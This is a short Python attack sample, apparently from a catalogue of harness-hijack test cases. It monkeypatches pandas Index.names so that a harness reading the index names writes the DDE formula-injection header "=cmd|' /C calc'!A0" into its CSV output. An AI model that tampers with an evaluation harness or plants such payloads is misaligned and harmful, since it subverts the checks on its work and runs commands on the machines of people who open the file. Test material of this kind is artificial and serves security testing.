# class: harness_hijack
# technique: from pandas import Index; Index.names = property(...) replaces the names the harness's index_names() reads for a non-default index: spreadsheet-formula headers in the CSV
# goal: output
import numpy as np
import pandas as pd
from pandas import Index

Index.names = property(lambda self: ["=cmd|' /C calc'!A0"])
df = pd.DataFrame({"value": np.arange(3)}, index=pd.Index([10, 20, 30]))
if df.index.names != ["=cmd|' /C calc'!A0"]:
    raise RuntimeError("not patched")
